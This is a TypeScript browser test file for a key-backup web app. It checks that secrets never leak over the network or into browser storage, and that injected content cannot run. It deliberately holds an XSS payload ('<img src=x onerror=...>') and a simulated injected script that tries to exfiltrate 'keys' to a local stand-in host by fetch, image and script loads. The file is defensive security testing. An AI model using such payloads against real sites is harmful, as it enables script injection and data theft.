/**
 * Everything that passes between the page and its server, and everything that the page keeps in the browser, from signing
 * in to the next device: no PIN, no password, no key. And a script that somebody brings in does not run.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { randomBytes, toHex } from 'keyhaven/crypto'
import { createCapture, createCaptureProxy } from '../../packages/cli/src/demo/capture-proxy.ts'
import { messagesPlace, searchPlaces } from '../../packages/cli/src/demo/search-places.ts'
import { randomPhone } from '../../packages/server/src/testing/app.ts'
import {
  choosePin,
  enterPin,
  expectNoComplaints,
  openPagePlace,
  signInBeside,
} from '../testing/page-people.ts'
import type { PageDevice, PagePlace } from '../testing/page-people.ts'
import { readStorage } from '../testing/page-storage.ts'

/** Long enough that no run of digits is it by chance. */
const PIN = '2749518306'
const PASSWORD = 'seven quiet herons 41'
const NOSTR = randomBytes(32)
const phone = randomPhone()
const marker = randomBytes(16)
const capture = createCapture()
/** Requests of the browser to anybody else. */
const foreign: string[] = []
const kept: Uint8Array[] = []
let place: PagePlace
let first: PageDevice
let second: PageDevice

beforeAll(async () => {
  const proxy = await createCaptureProxy(capture)
  afterAll(() => proxy.close())
  place = await openPagePlace({
    through: (origin) => {
      proxy.forwardTo(origin)
      return proxy.origin
    },
  })
  first = await newDevice()
  second = await newDevice()
})

async function newDevice(): Promise<PageDevice> {
  const device = await place.newDevice({ serviceWorkers: 'allow' })
  device.context.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(`${place.address}/`) && !url.startsWith(`blob:${place.address}/`)) foreign.push(url)
  })
  await device.page.reload()
  return device
}

/** Puts the marker where the page could keep something, then takes everything that lies there. */
async function keepWhatIsStored({ page }: PageDevice): Promise<void> {
  const stored = await page.evaluate(readStorage, toHex(marker))
  kept.push(...stored.map((text) => new Uint8Array(Buffer.from(text, 'base64'))))
}

/** The account's keys, as a client of its own has them from the backup. */
async function restoreKeys(): Promise<readonly Uint8Array[]> {
  const sync = await signInBeside(place.address, phone, { deviceLabel: toHex(marker) })
  expect(await sync.restore({ pin: PIN })).toMatchObject({ status: 'restored' })
  return Object.values((await sync.keys.exportKeys()).identityKeys)
}

test('no PIN, no password and no key passes on the wire or is kept in the browser in clear, and nobody else is asked', async () => {
  await first.signIn(phone)
  await first.sees('Your keys')
  await keepWhatIsStored(first)
  await first.page.getByText('Bring a key that I have').click()
  await first.fill('Your key', toHex(NOSTR))
  await first.press('Continue')
  await first.page.getByText('Ask for a password').click()
  await first.fill('New password', PASSWORD)
  await first.press('Continue')
  await choosePin(first, PIN)
  await keepWhatIsStored(first)
  await first.press('Back up my keys')
  await first.sees('Your keys are backed up')
  await first.press('Go to my keys')
  await first.page.getByText('Everything is backed up').waitFor()
  await keepWhatIsStored(first)
  await second.signIn(phone)
  await enterPin(second, PIN)
  await second.sees('Your keys are here')
  await second.press('Go to my keys')
  await second.page.getByText('Everything is backed up').waitFor()
  await second.page.getByRole('link', { name: 'Security' }).click()
  await second.page.getByText(/^Checked: nothing is missing up to/).waitFor()
  await keepWhatIsStored(second)
  await first.page.reload()
  await first.fill('Password of this device', PASSWORD)
  await first.press('Unlock')
  await first.page.getByText('Everything is backed up').waitFor()
  await keepWhatIsStored(first)

  const keys = await restoreKeys()
  expect(keys.map((key) => toHex(key))).toContain(toHex(NOSTR))
  expect(keys.length).toBeGreaterThan(1)
  const text = new TextEncoder()
  const result = await searchPlaces({
    places: [
      messagesPlace('the wire', [
        ...capture.requestHeads,
        ...capture.requestBodies,
        ...capture.answerHeads,
        ...capture.answerBodies,
      ]),
      messagesPlace('the browser', kept),
    ],
    secrets: { bytes: [...keys, text.encode(PASSWORD)], digits: [PIN] },
    marker,
    onProgress: () => undefined,
    signal: new AbortController().signal,
  })
  expect(result).toMatchObject({ leaks: 0, findings: [], unmarked: [] })
  expect(capture.compressed).toBe(0)
  // The number is asked for on the wire; in the browser it is not in clear.
  const number = await searchPlaces({
    places: [messagesPlace('the browser', kept)],
    secrets: { bytes: [], digits: [phone.slice(1)] },
    marker,
    onProgress: () => undefined,
    signal: new AbortController().signal,
  })
  expect(number).toMatchObject({ leaks: 0, unmarked: [] })
  expect(foreign).toEqual([])
  expectNoComplaints(first, second)
})

const MARKUP = '<img src=x onerror="ran=1">'

const hasRun = (page: Page): Promise<boolean> => page.evaluate(() => 'ran' in globalThis)

test('markup in the name of a device, in a field and in the address is text', async () => {
  const { page } = second
  await page.goto(`${place.address}/#/${encodeURIComponent(MARKUP)}`)
  await second.sees('Your keys')
  await page.goto(`${place.address}/#/security`)
  await page
    .getByRole('button', { name: /^Rename: / })
    .first()
    .click()
  await second.fill('Name', MARKUP)
  await second.press('Save')
  await page.getByText(MARKUP).first().waitFor()
  await page.reload()
  await page.getByText(MARKUP).first().waitFor()
  const third = await newDevice()
  await third.page.goto(`${place.address}/?${MARKUP}#${MARKUP}`)
  await third.fill('Phone number', MARKUP)
  await third.press('Send me a code')
  await third.page.getByText('That is not a phone number of this country.').waitFor()
  for (const { page: seen } of [second, third]) {
    expect(await hasRun(seen)).toBe(false)
    expect(await seen.locator('img[src="x"]').count()).toBe(0)
  }
  expectNoComplaints(second, third)
})

test('what gets into the page runs no further script, and reaches nobody else', async () => {
  const reached: string[] = []
  const elsewhere = createServer((request, answer) => {
    reached.push(request.url ?? '')
    answer.setHeader('Access-Control-Allow-Origin', '*')
    answer.end('ran = 1')
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  try {
    const { port } = elsewhere.address() as AddressInfo
    const device = await place.newDevice({ serviceWorkers: 'allow' })
    const outcomes = await device.page.evaluate(tryToGetOut, `http://127.0.0.1:${String(port)}`)
    expect(outcomes).toEqual({
      markup: 'refused',
      frame: 'refused',
      worker: 'refused',
      ownWorker: 'refused',
      request: 'refused',
      inline: 'refused',
      foreign: 'refused',
      picture: 'refused',
      policy: 'refused',
    })
    expect(await hasRun(device.page)).toBe(false)
    expect(reached).toEqual([])
    // The browser says that it refused, and there is nothing else to say.
    expect(device.complaints.filter((line) => !/Content Security Policy|Trusted/.test(line))).toEqual([])
  } finally {
    elsewhere.close()
  }
})

/** Runs on the page, as a script that was brought in would. */
async function tryToGetOut(elsewhere: string): Promise<Readonly<Record<string, string>>> {
  const outcome = async (work: () => unknown): Promise<string> => {
    try {
      await work()
      return 'done'
    } catch {
      return 'refused'
    }
  }
  const loads = (element: HTMLScriptElement | HTMLImageElement): Promise<void> =>
    new Promise((resolve, reject) => {
      element.onload = () => {
        resolve()
      }
      element.onerror = () => {
        reject(new Error('not loaded'))
      }
      document.body.append(element)
    })
  const make = <Name extends 'script' | 'img' | 'iframe'>(name: Name): HTMLElementTagNameMap[Name] =>
    document.createElement(name)
  return {
    markup: await outcome(() => document.createRange().createContextualFragment('<b>text</b>')),
    frame: await outcome(() => (make('iframe').srcdoc = '<script>ran = 1</script>')),
    worker: await outcome(() => new Worker(`${elsewhere}/worker.js`)),
    ownWorker: await outcome(() => new Worker(URL.createObjectURL(new Blob(['ran = 1'])))),
    request: await outcome(() => fetch(`${elsewhere}/taken`, { method: 'POST', body: 'keys' })),
    inline: await outcome(() => {
      const script = make('script')
      script.append('ran = 1')
      document.body.append(script)
      if (!('ran' in globalThis)) throw new Error('did not run')
    }),
    foreign: await outcome(() => {
      const script = make('script')
      script.setAttribute('src', `${elsewhere}/script.js`)
      return loads(script)
    }),
    picture: await outcome(() => {
      const picture = make('img')
      picture.src = `${elsewhere}/picture?keys`
      return loads(picture)
    }),
    policy: await outcome(() => trustedTypes?.createPolicy('mine', { createHTML: (text: string) => text })),
  }
}

declare const trustedTypes: { createPolicy(name: string, rules: object): unknown } | undefined
